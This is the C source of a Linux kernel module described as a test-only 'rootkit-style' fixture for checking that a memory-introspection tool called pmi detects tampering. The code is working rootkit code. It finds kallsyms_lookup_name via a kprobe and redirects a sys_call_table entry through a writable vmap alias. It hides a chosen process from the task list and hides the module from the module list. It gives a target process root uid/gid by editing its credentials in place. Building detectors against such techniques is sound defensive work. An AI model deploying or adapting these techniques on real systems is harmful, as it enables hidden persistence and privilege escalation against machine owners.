// SPDX-License-Identifier: GPL-2.0
/*
 * pmi_rootkit — TEST-ONLY "rootkit-style" module for the pmi lab. NOT MALWARE, NOT FOR REAL SYSTEMS.
 *
 * It exists so the integrity-monitor tests can prove that pmi, reading a lab guest's physical
 * memory from outside, notices real in-kernel tampering. It is built at test time against the
 * lab kernels' headers (lab/src/rootkit.ts) and loaded only into throw-away QEMU lab guests.
 * Every effect is harmless and logged with the addresses it touched (pr_info "pmi_rootkit: ..."):
 *
 *  a. sys_call_table[syscall_nr] := pmi_rk_hook, which only forwards to the original handler.
 *     (On these kernels syscalls dispatch through x64_sys_call's switch, not the table, so the
 *     redirect changes no behaviour; it is what tools and older rootkits patch.)
 *  b. the task hide_pid (a thread-group leader) is unlinked from init_task.tasks; its pid stays
 *     in the pid IDR, so /proc/<pid> still works while for_each_process no longer sees it.
 *  c. with hide_self=1 the module unlinks itself from the module list; its sysfs kobject stays
 *     (/sys/module/pmi_rootkit exists, /proc/modules and lsmod no longer show it).
 *  d. root_pid gets uid/gid 0 by editing its struct cred in place (not commit_creds);
 *     capabilities, cred->user and the user namespace are left as they were.
 *
 * The address of kallsyms_lookup_name (not exported since 5.7) comes from a kprobe on it; the
 * read-only table is written through a vmap() alias of its page, never by clearing CR0.WP.
 * tasklist_lock and module_mutex are not exported; they are looked up with kallsyms_lookup_name.
 */
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/kprobes.h>
#include <linux/vmalloc.h>
#include <linux/mm.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/cred.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/uidgid.h>
#include <linux/mutex.h>
#include <linux/spinlock.h>
#include <asm/ibt.h>
#include <asm/unistd.h>

MODULE_LICENSE("GPL");
MODULE_AUTHOR("pmi lab");
MODULE_DESCRIPTION("TEST-ONLY rootkit-style tampering for pmi integrity tests (lab guests only; harmless)");

static int hide_pid;
module_param(hide_pid, int, 0444);
MODULE_PARM_DESC(hide_pid, "pid of a thread-group leader to unlink from the task list (0: none)");

static int root_pid;
module_param(root_pid, int, 0444);
MODULE_PARM_DESC(root_pid, "pid whose cred gets uid/gid 0, edited in place (0: none)");

static int syscall_nr = __NR_getppid;
module_param(syscall_nr, int, 0444);
MODULE_PARM_DESC(syscall_nr, "sys_call_table entry to redirect to a forwarding hook (default __NR_getppid; -1: none)");

static bool hide_self = true;
module_param(hide_self, bool, 0444);
MODULE_PARM_DESC(hide_self, "unlink this module from the module list (default 1)");

/* How often the table entry was called through (read-only; stays 0 where x64_sys_call dispatches). */
static unsigned long hook_calls;
module_param(hook_calls, ulong, 0444);
MODULE_PARM_DESC(hook_calls, "calls that reached the hook through sys_call_table (read-only)");

typedef unsigned long (*kln_t)(const char *name);
typedef long (*syscall_fn_t)(const struct pt_regs *regs);

static kln_t kln;
static syscall_fn_t *table_entry;
static syscall_fn_t orig_fn;
static struct task_struct *hidden_task;

static long pmi_rk_hook(const struct pt_regs *regs)
{
	WRITE_ONCE(hook_calls, READ_ONCE(hook_calls) + 1);
	return orig_fn(regs);
}

/* kallsyms_lookup_name's address, from a kprobe registered on it (and removed at once). */
static kln_t find_kallsyms_lookup_name(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long addr;
	int ret = register_kprobe(&kp);

	if (ret < 0) {
		pr_err("pmi_rootkit: register_kprobe(kallsyms_lookup_name) failed: %d\n", ret);
		return NULL;
	}
	addr = (unsigned long)kp.addr;
	unregister_kprobe(&kp);
	/*
	 * With CONFIG_X86_KERNEL_IBT the probe sits after the function's ENDBR64 (or the 4-byte nop a
	 * sealed ENDBR became): report and call the function's own entry.
	 */
	if (is_endbr(*(u32 *)(addr - 4)))
		addr -= 4;
	return (kln_t)addr;
}

/* Write one pointer in read-only kernel data through a temporary writable vmap() alias of its page. */
static int write_ro_pointer(void *where, void *value, unsigned long *alias_out)
{
	struct page *page = virt_to_page(where);
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	if (alias_out)
		*alias_out = (unsigned long)alias + offset_in_page(where);
	WRITE_ONCE(*(void **)((char *)alias + offset_in_page(where)), value);
	vunmap(alias);
	return 0;
}

static int redirect_syscall(void)
{
	syscall_fn_t *table = (syscall_fn_t *)kln("sys_call_table");
	unsigned long alias = 0;
	int ret;

	if (!table) {
		pr_err("pmi_rootkit: sys_call_table not found\n");
		return -ENOENT;
	}
	if (syscall_nr < 0 || syscall_nr >= NR_syscalls) {
		pr_err("pmi_rootkit: syscall_nr %d out of range\n", syscall_nr);
		return -EINVAL;
	}
	table_entry = &table[syscall_nr];
	orig_fn = READ_ONCE(*table_entry);
	ret = write_ro_pointer(table_entry, (void *)pmi_rk_hook, &alias);
	if (ret) {
		table_entry = NULL;
		return ret;
	}
	pr_info("pmi_rootkit: syscall nr=%d sys_call_table=%px entry=%px old=%px new=%px alias=%px now=%px\n",
		syscall_nr, table, table_entry, orig_fn, pmi_rk_hook, (void *)alias, READ_ONCE(*table_entry));
	return 0;
}

/* The task with that pid (in the initial pid namespace), referenced; NULL when there is none. */
static struct task_struct *task_by_pid(int nr)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(nr), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	return t;
}

static int hide_task(rwlock_t *tasklist)
{
	struct task_struct *t = task_by_pid(hide_pid);
	struct list_head *prev, *next;

	if (!t) {
		pr_err("pmi_rootkit: hide_pid %d: no such task\n", hide_pid);
		return -ESRCH;
	}
	if (!thread_group_leader(t)) {
		pr_err("pmi_rootkit: hide_pid %d is not a thread-group leader\n", hide_pid);
		put_task_struct(t);
		return -EINVAL;
	}
	/*
	 * Writers of init_task.tasks hold tasklist_lock for writing (fork, __unhash_process); the
	 * node is left pointing at itself so the task's own exit later unlinks nothing.
	 */
	write_lock_irq(tasklist);
	prev = t->tasks.prev;
	next = t->tasks.next;
	list_del_init(&t->tasks);
	write_unlock_irq(tasklist);
	hidden_task = t; /* keeps the reference, for the exit path */
	pr_info("pmi_rootkit: hide_pid pid=%d comm=%s task=%px tasks=%px prev=%px next=%px init_task=%px\n", hide_pid,
		t->comm, t, &t->tasks, prev, next, &init_task);
	return 0;
}

static int raise_to_root(void)
{
	struct task_struct *t = task_by_pid(root_pid);
	struct cred *real, *eff;
	uid_t old_uid, old_euid;
	gid_t old_gid;

	if (!t) {
		pr_err("pmi_rootkit: root_pid %d: no such task\n", root_pid);
		return -ESRCH;
	}
	rcu_read_lock();
	real = (struct cred *)rcu_dereference(t->real_cred);
	eff = (struct cred *)rcu_dereference(t->cred);
	old_uid = __kuid_val(real->uid);
	old_euid = __kuid_val(eff->euid);
	old_gid = __kgid_val(real->gid);
	real->uid = real->euid = real->suid = real->fsuid = GLOBAL_ROOT_UID;
	real->gid = real->egid = real->sgid = real->fsgid = GLOBAL_ROOT_GID;
	if (eff != real) {
		eff->uid = eff->euid = eff->suid = eff->fsuid = GLOBAL_ROOT_UID;
		eff->gid = eff->egid = eff->sgid = eff->fsgid = GLOBAL_ROOT_GID;
	}
	rcu_read_unlock();
	pr_info("pmi_rootkit: root_pid pid=%d comm=%s task=%px real_cred=%px cred=%px uid=%u->0 euid=%u->0 gid=%u->0\n",
		root_pid, t->comm, t, real, eff, old_uid, old_euid, old_gid);
	put_task_struct(t);
	return 0;
}

static void hide_module(struct mutex *modules_lock)
{
	struct list_head *prev = THIS_MODULE->list.prev, *next = THIS_MODULE->list.next;

	/* Module list writers hold module_mutex; readers walk it under RCU or that mutex. */
	if (modules_lock)
		mutex_lock(modules_lock);
	list_del_init(&THIS_MODULE->list);
	if (modules_lock)
		mutex_unlock(modules_lock);
	pr_info("pmi_rootkit: hide_self module=%px list=%px prev=%px next=%px kobj=%px\n", THIS_MODULE,
		&THIS_MODULE->list, prev, next, &THIS_MODULE->mkobj.kobj);
}

static int __init pmi_rootkit_init(void)
{
	rwlock_t *tasklist;
	struct mutex *modules_lock;
	int ret;

	pr_info("pmi_rootkit: TEST-ONLY module loading: module=%px name=%s init=%px hook=%px\n", THIS_MODULE,
		THIS_MODULE->name, pmi_rootkit_init, pmi_rk_hook);
	kln = find_kallsyms_lookup_name();
	if (!kln)
		return -ENOENT;
	tasklist = (rwlock_t *)kln("tasklist_lock");
	modules_lock = (struct mutex *)kln("module_mutex");
	pr_info("pmi_rootkit: kallsyms_lookup_name=%px tasklist_lock=%px module_mutex=%px\n", kln, tasklist,
		modules_lock);

	if (syscall_nr >= 0) {
		ret = redirect_syscall();
		if (ret)
			return ret;
	}
	if (hide_pid > 0) {
		if (!tasklist) {
			pr_err("pmi_rootkit: tasklist_lock not found\n");
			ret = -ENOENT;
			goto undo;
		}
		ret = hide_task(tasklist);
		if (ret)
			goto undo;
	}
	if (root_pid > 0) {
		ret = raise_to_root();
		if (ret)
			goto undo;
	}
	if (hide_self)
		hide_module(modules_lock);
	pr_info("pmi_rootkit: done syscall_nr=%d hide_pid=%d root_pid=%d hide_self=%d\n", syscall_nr, hide_pid,
		root_pid, hide_self ? 1 : 0);
	return 0;
undo:
	if (table_entry)
		write_ro_pointer(table_entry, (void *)orig_fn, NULL);
	if (hidden_task) {
		write_lock_irq(tasklist);
		if (pid_alive(hidden_task) && list_empty(&hidden_task->tasks))
			list_add_tail_rcu(&hidden_task->tasks, &init_task.tasks);
		write_unlock_irq(tasklist);
		put_task_struct(hidden_task);
		hidden_task = NULL;
	}
	return ret;
}

/* Reached only with hide_self=0 (a hidden module cannot be found by rmmod). Creds stay edited. */
static void __exit pmi_rootkit_exit(void)
{
	rwlock_t *tasklist = (rwlock_t *)kln("tasklist_lock");

	if (table_entry) {
		write_ro_pointer(table_entry, (void *)orig_fn, NULL);
		synchronize_rcu();
	}
	if (hidden_task) {
		write_lock_irq(tasklist);
		if (pid_alive(hidden_task) && list_empty(&hidden_task->tasks))
			list_add_tail_rcu(&hidden_task->tasks, &init_task.tasks);
		write_unlock_irq(tasklist);
		put_task_struct(hidden_task);
	}
	pr_info("pmi_rootkit: unloaded (sys_call_table entry restored, task relinked)\n");
}

module_init(pmi_rootkit_init);
module_exit(pmi_rootkit_exit);
